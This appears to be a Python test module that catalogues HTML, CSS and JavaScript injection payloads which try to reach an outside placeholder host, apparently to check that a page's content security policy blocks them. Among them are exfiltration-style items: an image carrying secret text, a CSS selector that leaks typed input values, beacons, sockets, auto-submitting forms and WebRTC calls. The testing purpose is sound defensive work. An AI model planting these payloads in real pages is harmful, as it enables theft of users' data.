"""What somebody who can put HTML into a page of ours could try, to reach a machine of their own.

In each, {to} is the host and port of that machine. Every one of them arrives where a page has no policy.
What a browser without a window does not do, or not each time, is missing: icons, the web manifest,
connections made early, speculation rules.
"""

MARKUP = {
    "image": '<img src="http://{to}/">',
    "image that takes text with it": "<img src='http://{to}/?<p>Secret</p>'>",
    "image, other widths": '<img srcset="http://{to}/ 2000w, http://{to}/ 1w" sizes="100vw">',
    "picture": '<picture><source srcset="http://{to}/"><img alt=""></picture>',
    "input with a picture": '<input type="image" src="http://{to}/">',
    "background of a table": '<table background="http://{to}/"><tr><td>A</td></tr></table>',
    "video": '<video src="http://{to}/" preload="auto"></video>',
    "video, its poster": '<video poster="http://{to}/"></video>',
    "audio": '<audio preload="auto"><source src="http://{to}/"></audio>',
    "script": '<script src="http://{to}/"></script>',
    "script, as a module": '<script type="module" src="http://{to}/"></script>',
    "script in SVG": '<svg><script href="http://{to}/"></script></svg>',
    "picture in SVG": '<svg><image href="http://{to}/" width="9" height="9"/></svg>',
    "filter in SVG": '<svg width="9" height="9"><filter id="f"><feImage href="http://{to}/"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "frame": '<iframe src="http://{to}/"></iframe>',
    "frame with its own page": "<iframe srcdoc=\"<img src='http://{to}/'>\"></iframe>",
    "frame from a data address": "<iframe src=\"data:text/html,<img src='http://{to}/'>\"></iframe>",
    "frame that runs script": "<iframe src=\"javascript:'<img src=http://{to}/>'\"></iframe>",
    "object": '<object data="http://{to}/"></object>',
    "embed": '<embed src="http://{to}/">',
    "style sheet": '<link rel="stylesheet" href="http://{to}/">',
    "style that imports": "<style>@import 'http://{to}/';</style>",
    "style with a picture": "<style>.one {{ background: url('http://{to}/') }}</style><p class='one'>A</p>",
    "style that reads what is typed": "<style>input[value^='S'] {{ background: url('http://{to}/') }}</style>"
    '<input value="Secret">',
    "style with a font": "<style>@font-face {{ font-family: far; src: url('http://{to}/') }}"
    " .two {{ font-family: far }}</style><p class='two'>A</p>",
    "style of an element": "<p style=\"background: url('http://{to}/')\">A</p>",
    "preload": '<link rel="preload" as="image" href="http://{to}/">',
    "preload of a script": '<link rel="preload" as="script" href="http://{to}/">',
    "preload of a font": '<link rel="preload" as="font" crossorigin href="http://{to}/">',
    "preload of data": '<link rel="preload" as="fetch" crossorigin href="http://{to}/">',
    "preload of a module": '<link rel="modulepreload" href="http://{to}/">',
    "prefetch": '<link rel="prefetch" href="http://{to}/">',
    "handler of a failed picture": """<img src="data:," onerror="fetch('http://{to}/')">""",
    "handler of details": """<details open ontoggle="fetch('http://{to}/')">A</details>""",
    "handler in SVG": """<svg onload="fetch('http://{to}/')"></svg>""",
    "handler of the focus": """<p tabindex="0" autofocus onfocus="fetch('http://{to}/')">A</p>""",
    "fetch": "<script>fetch('http://{to}/')</script>",
    "module": "<script type=module>fetch('http://{to}/')</script>",
    "module that imports": "<script type=module>import 'http://{to}/'</script>",
    "script from a data address": """<script src="data:text/javascript,fetch('http://{to}/')"></script>""",
    "event source": "<script>new EventSource('http://{to}/')</script>",
    "socket": "<script>new WebSocket('ws://{to}/')</script>",
    "beacon": "<script>navigator.sendBeacon('http://{to}/', 'a')</script>",
    "another script": "<script>document.head.append(Object.assign("
    "document.createElement('script'), {{ src: 'http://{to}/' }}))</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('http://{to}/')\"])))</script>",
    "form that sends itself": '<form action="http://{to}/" target="far"><input name="a" value="b"></form>'
    "<script>document.forms[document.forms.length - 1].submit()</script>",
    "calls": "<script>{{ const call = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{to}' }}] }});"
    " call.createDataChannel('a'); call.createOffer().then((offer) => call.setLocalDescription(offer)) }}"
    "</script>",
}
"""What only has to be there: all of it at the same time."""

ALONE = {
    "base": '<base href="http://{to}/"><img src="a.png">',
    "import map": '<script type="importmap">{{"imports": {{"a": "http://{to}/"}}}}</script>'
    "<script type=module>import 'a'</script>",
}
"""The same, but it would disturb the rest."""

CLICKED = {
    "form": '<form action="http://{to}/" target="_blank"><button class="press">A</button></form>',
    "form that posts": '<form action="http://{to}/" method="post" target="_blank">'
    '<button class="press">A</button></form>',
    "button that names another form": '<form action="/">'
    '<button class="press" formaction="http://{to}/" formtarget="_blank">A</button></form>',
    "ping": '<a class="press" href="#" ping="http://{to}/">A</a>',
    "address that is a script": """<a class="press" href="javascript:fetch('http://{to}/')">A</a>""",
    "handler of a click": """<button class="press" onclick="fetch('http://{to}/')">A</button>""",
}
"""What the reader has to press."""

SCRIPTS = {
    "fetch": "(to) => { fetch(`http://${to}/`, { mode: 'no-cors' }).catch(() => {}) }",
    "request": "(to) => { const one = new XMLHttpRequest(); one.open('GET', `http://${to}/`); one.send() }",
    "beacon": "(to) => { navigator.sendBeacon(`http://${to}/`, 'a') }",
    "event source": "(to) => { new EventSource(`http://${to}/`) }",
    "socket": "(to) => { new WebSocket(`ws://${to}/`) }",
    "picture": "(to) => { new Image().src = `http://${to}/` }",
    "sound": "(to) => { new Audio(`http://${to}/`).load() }",
    "script": "(to) => { document.head.append(Object.assign(document.createElement('script'),"
    " { src: `http://${to}/` })) }",
    "import": "(to) => { import(`http://${to}/`).catch(() => {}) }",
    "worker": "(to) => { new Worker(URL.createObjectURL(new Blob([`fetch('http://${to}/')`]))) }",
    "font": "(to) => { new FontFace('far', `url(http://${to}/)`).load().catch(() => {}) }",
    "frame": "(to) => { document.body.append(Object.assign(document.createElement('iframe'),"
    " { src: `http://${to}/` })) }",
    "form": "(to) => { const form = Object.assign(document.createElement('form'),"
    " { action: `http://${to}/`, target: 'far' }); document.body.append(form); form.submit() }",
}
"""What a module of ours could be made to do, if it were ever fooled. Each gets host and port."""

REDIRECT = {"redirect": '<meta http-equiv="refresh" content="0; url=http://{to}/">'}
LINK = {"link": '<a class="press" href="http://{to}/">A</a>'}
UNSTOPPABLE_SCRIPTS = {
    "a call": "(to) => { const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${to}` }] });"
    " call.createDataChannel('a'); call.createOffer().then((offer) => call.setLocalDescription(offer)) }",
    "a new window": "(to) => { open(`http://${to}/`) }",
    "another page": "(to) => { location.href = `http://${to}/` }",
}
"""A policy in a page has no word against these three, and SECURITY.md says so."""
